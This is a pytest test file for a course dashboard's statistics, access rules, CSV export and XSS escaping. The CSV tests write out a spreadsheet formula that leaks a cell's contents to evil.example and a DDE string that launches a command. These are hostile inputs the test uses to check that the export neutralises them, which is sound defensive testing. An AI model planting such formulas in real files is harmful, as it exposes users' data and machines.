"""The trainer's dashboard of a course (learning/dashboard.py and learning/dashboard_routes.py): the
numbers for learners in every state, who may see them, the CSV export read back as a spreadsheet
would read it, and course texts from the XSS corpus shown as text."""
from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from urllib.parse import unquote

import pytest
from markupsafe import escape

from knet.db import db
from knet.errors import Forbidden
from learning import dashboard, progress, quizzes, structure, versions
from learning.structure import OptionInput, QuestionInput
from tests.xss import dangers

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Κάντε κλικ")'


def text(response) -> str:
    return response.get_data(as_text=True)


def path(course, csv_file: bool = False) -> str:
    return f"/learning/teaching/{course.id}/dashboard" + (".csv" if csv_file else "")


@pytest.fixture
def people(make_user):
    return {"trainer": make_user("tina", role="trainer"), "other_trainer": make_user("otto", role="trainer"),
            "admin": make_user("root", role="admin"), "learner": make_user("lena", role="reader")}


@pytest.fixture
def classroom(people, make_user, make_quiz):
    """A course (a lesson, then a quiz of four questions needing 75%, then a second quiz of one true/false
    question) and six learners in different states:

    - anna enrolled only;
    - bob and frank viewed the lesson;
    - chris answered the first quiz and failed it (25%);
    - dora viewed the lesson, failed the first quiz (50%), passed it (100%), passed the second (100%): completed;
    - eve passed the first quiz (75%) and failed the second (0%), without viewing the lesson.
    """
    trainer = people["trainer"]
    made = make_quiz(trainer, "Προμήθειες στην πράξη")
    course = made.course
    second = structure.add_quiz(trainer, course.modules[0], "Δεύτερο τεστ", pass_percent=100)
    structure.add_question(trainer, second, QuestionInput(kind="truefalse", prompt="Η σύμβαση αναρτάται.",
                                                          true_is_correct=True))
    versions.publish(trainer, course, "Δεύτερο τεστ")
    db.session.commit()
    lesson = course.modules[0].items[0].key
    right, q = made.right_answers(), made.questions
    learners = {name: make_user(name, role="reader") for name in ("anna", "bob", "chris", "dora", "eve", "frank")}
    for learner in learners.values():
        progress.enrol(learner, course)
    for name in ("bob", "frank", "dora"):
        progress.open_item(learners[name], course, lesson)
    quizzes.submit(learners["chris"], course, made.quiz, {q["single"]: right[q["single"]]})
    quizzes.submit(learners["dora"], course, made.quiz, {**right, q["truefalse"]: ["false"], q["numeric"]: "7"})
    quizzes.submit(learners["dora"], course, made.quiz, right)
    quizzes.submit(learners["dora"], course, second.key, {second.questions[0].key: ["true"]})
    quizzes.submit(learners["eve"], course, made.quiz, {**right, q["numeric"]: "3"})
    quizzes.submit(learners["eve"], course, second.key, {second.questions[0].key: ["false"]})
    db.session.commit()
    return course, made, second


# The numbers -------------------------------------------------------------------------------------

def test_learners_are_counted_by_how_far_they_got(people, classroom):
    course, _made, _second = classroom
    stats = dashboard.course_stats(people["trainer"], course)
    assert (stats.title, stats.version) == ("Προμήθειες στην πράξη", 2)
    assert (stats.enrolled, stats.not_started, stats.in_progress, stats.completed) == (6, 1, 4, 1)


def test_each_step_counts_the_learners_who_did_it_in_reading_order(people, classroom):
    course, _made, _second = classroom
    steps = dashboard.course_stats(people["trainer"], course).steps
    # The lesson viewed by bob, frank and dora; the first quiz passed by dora and eve; the second by dora.
    assert [(s.number, s.kind, s.title, s.done, s.percent) for s in steps] == [
        (1, "lesson", "Μάθημα 1", 3, 50), (2, "quiz", "Τεστ προμηθειών", 2, 33), (3, "quiz", "Δεύτερο τεστ", 1, 17)]
    assert {s.module_title for s in steps} == {"Εισαγωγή"}


def test_average_best_scores_take_each_learners_best_attempt(people, classroom):
    course, _made, _second = classroom
    stats = dashboard.course_stats(people["trainer"], course)
    first, second = stats.quizzes
    # Bests: chris 25, dora 100 (not her 50), eve 75; then dora 100 and eve 0.
    assert (first.analysis.title, first.average_best) == ("Τεστ προμηθειών", 66.7)
    assert (second.analysis.title, second.average_best) == ("Δεύτερο τεστ", 50.0)
    assert stats.average_best == 60.0  # (25 + 100 + 75 + 100 + 0) / 5, not the average of the two averages
    assert (first.analysis.learners, first.analysis.learners_passed, first.analysis.attempts) == (3, 2, 4)


def test_the_item_analysis_lists_the_most_often_wrong_question_first(people, classroom):
    course, made, _second = classroom
    first = dashboard.course_stats(people["trainer"], course).quizzes[0].analysis
    q = made.questions
    # Of four attempts: the number wrong three times, true/false twice, the multiple choice once (left out).
    assert [(question.key, question.wrong, question.unanswered, question.wrong_percent)
            for question in first.questions] == [
        (q["numeric"], 3, 1, 75), (q["truefalse"], 2, 1, 50), (q["multiple"], 1, 1, 25), (q["single"], 0, 0, 0)]
    assert dashboard.question_text(first.questions[-1]) == "Ποιο είναι το όριο της απευθείας ανάθεσης;"


def test_titles_are_those_of_the_published_version_not_of_the_working_copy(people, classroom):
    course, _made, _second = classroom
    structure.update_lesson(people["trainer"], course.modules[0].items[0], "Νέος τίτλος, όχι ακόμη δημοσιευμένος", "x")
    course.title = "Άλλος τίτλος"
    db.session.commit()
    stats = dashboard.course_stats(people["trainer"], course)
    assert stats.title == "Προμήθειες στην πράξη" and stats.steps[0].title == "Μάθημα 1"


def test_a_course_never_published_has_no_numbers(people, make_course):
    course = make_course(people["trainer"], "Πρόχειρο", publish=False)
    stats = dashboard.course_stats(people["trainer"], course)
    assert not stats.published and (stats.enrolled, stats.steps, stats.quizzes, stats.average_best) == (0, (), (), None)


def test_only_the_courses_trainers_and_administrators_get_the_numbers(people, classroom):
    course, _made, _second = classroom
    assert dashboard.course_stats(people["admin"], course).enrolled == 6
    for who in ("learner", "other_trainer"):
        with pytest.raises(Forbidden):
            dashboard.course_stats(people[who], course)


# The page ----------------------------------------------------------------------------------------

def row(label: str, *cells: str) -> str:
    return f'<th scope="row">{label}</th>' + "".join(f"<td>{cell}</td>" for cell in cells)


def test_the_page_shows_charts_and_the_same_numbers_in_tables(people, classroom, browse):
    course, _made, _second = classroom
    response = browse(people["trainer"]).get(path(course))
    assert response.status_code == 200
    html = " ".join(text(response).split())
    for label, number in (("Enrolled learners", 6), ("Not started yet", 1), ("In progress", 4),
                          ("Completed the course", 1)):
        assert row(label, str(number)) in html, label
    assert "<dt>Average best quiz score</dt><dd>60%</dd>" in html
    assert row("1. Μάθημα 1") + "<td>Εισαγωγή</td> <td>lesson (viewed)</td> <td>3</td><td>50%</td>" in html
    assert row("Τεστ προμηθειών", "3", "2") + " <td>4</td> <td>66.7%</td>" in html
    assert row("Question 4: Πόσο κάνει 5 / 2;") + " <td>4</td><td>3</td><td>1</td><td>75%</td>" in html
    charts = re.findall(r'<svg class="chart" id="([\w-]+)" role="img" aria-labelledby="\1-title \1-desc"', html)
    assert charts == ["funnel-chart", "steps-chart", "quiz-1-chart", "quiz-2-chart"]
    # Each table is named by its caption, in a region a keyboard can scroll on a narrow screen.
    tables = re.findall(r'<div class="table-region" role="region" tabindex="0" aria-labelledby="([\w-]+)"> '
                        r'<table class="dashboard-table"> <caption id="\1">', html)
    assert tables == ["learners-table", "steps-table", "quizzes-table", "quiz-1-table", "quiz-2-table"]
    assert html.count("<table") == 5
    # The most often wrong question comes first in its chart, with its share in words.
    assert re.search(r'quiz-1-chart.*?class="chart-label"[^>]*>Question 4: Πόσο κάνει 5 / 2;</text>'
                     r'\s*<text[^>]*class="chart-value"[^>]*>75%</text>', html)
    assert f'href="{path(course, csv_file=True)}"' in html


def test_the_page_of_a_course_never_published_says_so(people, make_course, browse):
    course = make_course(people["trainer"], "Πρόχειρο", publish=False)
    response = browse(people["trainer"]).get(path(course))
    assert response.status_code == 200
    assert "The course has not been published yet" in text(response) and "<svg" not in text(response)


def test_learners_and_other_trainers_are_refused_and_unknown_courses_are_not_found(people, classroom, browse,
                                                                                   make_course):
    course, _made, _second = classroom
    assert browse(people["admin"]).get(path(course)).status_code == 200
    for who in ("learner", "other_trainer"):
        client = browse(people[who])
        for address in (path(course), path(course, csv_file=True)):
            response = client.get(address)
            assert response.status_code == 403, (who, address)
            assert "Only the trainers of “Προμήθειες στην πράξη” may change it." in text(response)
            assert "Μάθημα 1" not in text(response)
    trainer = browse(people["trainer"])
    for address in ("/learning/teaching/999999/dashboard", "/learning/teaching/99999999999/dashboard.csv"):
        response = trainer.get(address)
        assert response.status_code == 404 and "There is no such course" in text(response), address
    draft = make_course(people["other_trainer"], "Πρόχειρο του Όττο", publish=False)
    assert trainer.get(path(draft)).status_code == 404  # a draft of others is not even seen
    assert browse(None).get(path(course)).status_code == 302  # sign in first


# The CSV export ----------------------------------------------------------------------------------

def read_csv(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")  # the byte-order mark that makes Excel read UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8")[1:])))


def section(rows: list[list[str]], *heading: str) -> list[list[str]]:
    """The rows under a section's heading row (known by its first cells), up to the next empty row."""
    start = next(number for number, cells in enumerate(rows) if cells[:len(heading)] == list(heading)) + 1
    end = next((number for number in range(start, len(rows)) if not rows[number]), len(rows))
    return rows[start:end]


def test_the_csv_holds_the_same_numbers_and_greek_titles(people, classroom, browse):
    course, made, _second = classroom
    response = browse(people["trainer"]).get(path(course, csv_file=True))
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith(f"attachment; filename=course-{course.id}-dashboard.csv; filename*=UTF-8''")
    assert disposition.isascii()
    assert unquote(disposition.split("''", 1)[1]) == "Προμήθειες-στην-πράξη-dashboard.csv"
    rows = read_csv(response)
    assert rows[:2] == [["Course", "Προμήθειες στην πράξη"], ["Version", "2"]]
    assert section(rows, "Learners") == [["Enrolled learners", "6"], ["Not started yet", "1"],
                                         ["In progress", "4"], ["Completed the course", "1"], ["Average best quiz score (%)", "60.0"]]
    assert section(rows, "Step number") == [["1", "Εισαγωγή", "Μάθημα 1", "Lesson", "3", "50"],
                                     ["2", "Εισαγωγή", "Τεστ προμηθειών", "Quiz", "2", "33"],
                                     ["3", "Εισαγωγή", "Δεύτερο τεστ", "Quiz", "1", "17"]]
    assert section(rows, "Quiz", "Learners who answered it") == [["Τεστ προμηθειών", "3", "2", "4", "66.7", "62", "50"],
                                         ["Δεύτερο τεστ", "2", "1", "2", "50.0", "50", "50"]]
    assert section(rows, "Quiz", "Question") == [["Τεστ προμηθειών", "4", "Πόσο κάνει 5 / 2;", "4", "3", "1", "75"],
                         ["Τεστ προμηθειών", "3", "Το ΚΗΜΔΗΣ είναι μητρώο.", "4", "2", "1", "50"],
                         ["Τεστ προμηθειών", "2", "Ποια αναρτώνται στο ΚΗΜΔΗΣ;", "4", "1", "1", "25"],
                         ["Τεστ προμηθειών", "1", "Ποιο είναι το όριο της απευθείας ανάθεσης;", "4", "0", "0", "0"],
                         ["Δεύτερο τεστ", "1", "Η σύμβαση αναρτάται.", "2", "1", "0", "50"]]


def test_the_csv_of_a_course_never_published_is_only_its_headings(people, make_course, browse):
    course = make_course(people["trainer"], "Πρόχειρο", publish=False)
    rows = read_csv(browse(people["trainer"]).get(path(course, csv_file=True)))
    assert rows[:2] == [["Course", "Πρόχειρο"], ["Version", "0"]]
    assert section(rows, "Learners")[0] == ["Enrolled learners", "0"] and section(rows, "Step number") == []


def test_text_a_spreadsheet_would_run_as_a_formula_stays_text(people, make_course, browse):
    trainer = people["trainer"]
    course = make_course(trainer, FORMULA, lessons=0, quiz=False, publish=False)
    structure.rename_module(trainer, course.modules[0], "-2+3")
    structure.add_lesson(trainer, course.modules[0], "@SUM(1+1)*cmd|' /C calc'!A0", "Κείμενο.")
    structure.add_lesson(trainer, course.modules[0], "+33 210 0000000", "Κείμενο.")
    versions.publish(trainer, course)
    db.session.commit()
    rows = read_csv(browse(trainer).get(path(course, csv_file=True)))
    assert rows[0] == ["Course", "'" + FORMULA]
    assert section(rows, "Step number") == [["1", "'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0", "Lesson", "0", "0"],
                                     ["2", "'-2+3", "'+33 210 0000000", "Lesson", "0", "0"]]
    assert all(not cell.startswith(("=", "+", "-", "@")) for cells in rows for cell in cells)
    assert dashboard.safe_cell("Κανονικό") == "Κανονικό" and dashboard.safe_cell(-1) == -1


# Nothing from the XSS corpus runs ----------------------------------------------------------------

def _sample(corpus: Path) -> list[str]:
    """A small fixed sample: the first payloads of the HTML and of the Markdown corpus."""
    html = json.loads((corpus / "xss" / "xss_payloads.json").read_text(encoding="utf-8"))
    markdown = json.loads((corpus / "xss" / "markdown_xss_payloads.json").read_text(encoding="utf-8"))
    return [entry["payload"] for entry in html[:12] + markdown[:6]]


def test_course_texts_from_the_xss_corpus_show_as_text_on_the_dashboard(people, corpus, make_course, browse):
    trainer, payloads = people["trainer"], _sample(corpus)
    course = make_course(trainer, f"Μάθημα: {payloads[0]}", lessons=0, quiz=False, publish=False)
    module = course.modules[0]
    structure.rename_module(trainer, module, payloads[1])
    for payload in payloads:
        structure.add_lesson(trainer, module, payload[:200], "Κείμενο.")
    quiz = structure.add_quiz(trainer, module, payloads[2], payloads[3], pass_percent=50)
    for payload in payloads:
        structure.add_question(trainer, quiz, QuestionInput(kind="single", prompt=payload, options=[
            OptionInput(payload[:500], correct=True), OptionInput("Όχι")]))
    versions.publish(trainer, course)
    db.session.commit()
    progress.enrol(people["learner"], course)
    quizzes.submit(people["learner"], course, quiz.key, {})
    db.session.commit()

    response = browse(trainer).get(path(course))
    assert response.status_code == 200
    html = text(response)
    assert dangers(html) == []
    for payload in payloads:
        title = " ".join(payload[:200].split())
        assert str(escape(title)) in html, payload  # shown as the text it is, in the steps' table
    assert str(escape(payloads[2])) in html  # the quiz's title
    assert html.count("<svg") == 3 and html.count("<text ") == 2 * (3 + len(payloads) + 1 + len(payloads))
    rows = read_csv(browse(trainer).get(path(course, csv_file=True)))
    assert [cells[2] for cells in section(rows, "Step number")] == [" ".join(p[:200].split()) for p in payloads] \
        + [payloads[2]]
